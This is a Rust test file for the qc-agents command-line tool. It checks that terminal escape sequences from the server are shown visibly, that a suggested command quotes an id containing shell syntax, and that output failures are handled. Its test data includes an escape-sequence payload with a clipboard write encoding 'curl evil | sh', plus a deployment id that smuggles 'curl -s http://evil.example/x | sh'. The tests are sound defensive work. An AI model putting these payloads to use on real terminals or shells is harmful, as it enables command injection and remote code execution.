//! What `qc-agents` prints is safe and true: server- and agent-supplied text with its
//! control characters made visible, ids quoted where a command is suggested, and output
//! that cannot be written is a failure (a closed pipe is not).

mod support;

use std::{
    io::{BufRead as _, BufReader, Read as _},
    process::Stdio,
    time::Duration,
};

use httpmock::MockServer;
use quantconnect_agents::simulator::Schedule;
use support::{bare, fast, run, wait_exit, Sim, TOKEN, USER};

/// A window title (OSC 0), a clipboard write (OSC 52), a screen clear (CSI 2J), a line
/// rewrite (CR + CSI 2K), NUL and an 8-bit CSI.
const HOSTILE: &str =
    "x\u{1b}]0;owned\u{7}\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{1b}[2J\r\u{1b}[2Kfake\0\u{9b}31my";

#[test]
fn hostile_names_and_conversation_text_are_shown_with_escapes_visible() {
    let sim = Sim::start(fast());
    let task = sim.new_task(HOSTILE, &format!("prompt {HOSTILE}\nsecond line"));
    let id = sim
        .block_on(sim.client().create_agent_deployment(task))
        .unwrap();
    let id = id.deployment_id.unwrap();
    let task = task.to_string();
    run(&mut sim.cmd(), &["deployments", "list", &task])
        .ok()
        .printable();
    for args in [
        &["tasks", "list"][..],
        &["tasks", "read", &task],
        &["deployments", "wait", &id],
        &["conversation", &id],
    ] {
        let ran = run(&mut sim.cmd(), args).ok();
        ran.printable();
        assert!(
            ran.stdout.contains("x^[]0;owned^G^[]52;c;"),
            "{args:?}: {}",
            ran.stdout
        );
    }
    // The conversation keeps its lines; each is indented under its message.
    let ran = run(&mut sim.cmd(), &["conversation", &id]).ok();
    assert!(
        ran.stdout
            .contains("^[[2J^M^[[2Kfake^@\\u{9b}31my\n  second line"),
        "{}",
        ran.stdout
    );
    // `--json` stays exact: the same text, escaped as JSON.
    let ran = run(&mut sim.cmd(), &["tasks", "read", &task, "--json"]).ok();
    ran.printable();
    let json: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap();
    assert_eq!(json["name"], HOSTILE);
    // `run`, whose lines name the task and quote the conversation (no NUL in arguments).
    let name = HOSTILE.replace('\0', "");
    let prompt = format!("p {name}");
    let ran = run(
        &mut sim.cmd(),
        &["run", "--agent", "47", "--name", &name, "--prompt", &prompt],
    )
    .ok();
    ran.printable();
    assert!(ran.stdout.contains("x^[]0;owned^G"), "{}", ran.stdout);
}

#[test]
fn a_servers_error_with_escape_codes_reaches_stderr_visible() {
    let server = MockServer::start();
    let body = serde_json::json!({"success": false, "errors": [format!("Task 404 {HOSTILE}")]});
    server.mock(|when, then| {
        when.method("POST").path("/api/v2/agents/tasks/read");
        then.status(200)
            .header("content-type", "application/json")
            .body(body.to_string());
    });
    let home = tempfile::tempdir().unwrap();
    let mut cmd = bare(home.path());
    cmd.env("QC_USER_ID", USER).env("QC_API_TOKEN", TOKEN);
    let url = server.url("/api/v2");
    let ran = run(&mut cmd, &["tasks", "read", "404", "--api-url", &url]);
    assert_eq!(ran.code, Some(1), "{}", ran.stderr);
    ran.printable();
    assert!(
        ran.stderr.starts_with("error: readAgentTask"),
        "{}",
        ran.stderr
    );
    assert!(ran.stderr.contains("Task 404 x"), "{}", ran.stderr);
    assert_eq!(ran.stderr.lines().count(), 1, "{}", ran.stderr);
}

#[test]
fn a_deployment_id_with_shell_syntax_is_quoted_in_suggested_commands() {
    let evil = "A-1 && curl -s http://evil.example/x | sh #";
    let server = MockServer::start();
    let body = serde_json::json!({"success": true, "deployment": {
        "deploymentId": evil, "taskId": 5, "status": "InQueue"}});
    server.mock(|when, then| {
        when.method("POST")
            .path("/api/v2/agents/deployments/create");
        then.status(200)
            .header("content-type", "application/json")
            .body(body.to_string());
    });
    let home = tempfile::tempdir().unwrap();
    let mut cmd = bare(home.path());
    cmd.env("QC_USER_ID", USER).env("QC_API_TOKEN", TOKEN);
    let url = server.url("/api/v2");
    let ran = run(&mut cmd, &["deployments", "create", "5", "--api-url", &url]).ok();
    assert!(
        ran.stdout
            .contains(&format!("qc-agents deployments wait '{evil}'\n")),
        "{}",
        ran.stdout
    );
}

#[test]
fn output_that_cannot_be_written_fails_with_one_line() {
    let sim = Sim::start(fast());
    sim.new_task("t", "p");
    for args in [&["tasks", "list"][..], &["tasks", "list", "--json"]] {
        let full = std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .unwrap();
        let out = sim.std_cmd(args).stdout(full).output().unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert_eq!(out.status.code(), Some(1), "{args:?}: {stderr}");
        assert_eq!(stderr.lines().count(), 1, "{stderr}");
        assert!(
            stderr.starts_with("error: cannot write to stdout:"),
            "{stderr}"
        );
    }
}

#[test]
fn a_follower_ends_once_its_reader_is_gone_with_nothing_new_to_print() {
    // A deployment that runs for ten minutes: following it ends only by seeing the reader go.
    let sim = Sim::start(Schedule {
        in_queue: Duration::from_millis(50),
        running: Duration::from_secs(600),
        failure: None,
    });
    let task = sim.new_task("long", "Print Hello World");
    let id = sim
        .block_on(sim.client().create_agent_deployment(task))
        .unwrap();
    let id = id.deployment_id.unwrap();
    // A follow-up prompt settles the first message (the one being written is held back).
    sim.block_on(
        sim.client()
            .prompt_agent_deployment(id.as_str(), "again".to_owned()),
    )
    .unwrap();
    let mut child = sim
        .std_cmd(&["conversation", &id, "--follow"])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    stdout.read_line(&mut first).unwrap();
    assert!(first.starts_with("user"), "{first}");
    drop(stdout); // `| head -1`
    let status = wait_exit(&mut child, Duration::from_secs(30));
    assert_eq!(status.code(), Some(0));
}

#[test]
fn a_closed_pipe_is_not_an_error() {
    let sim = Sim::start(fast());
    sim.new_task("t", "p");
    let mut child = sim.spawn(&["tasks", "list"]);
    drop(child.stdout.take());
    let status = wait_exit(&mut child, Duration::from_secs(30));
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    assert_eq!((status.code(), stderr.as_str()), (Some(0), ""));
}
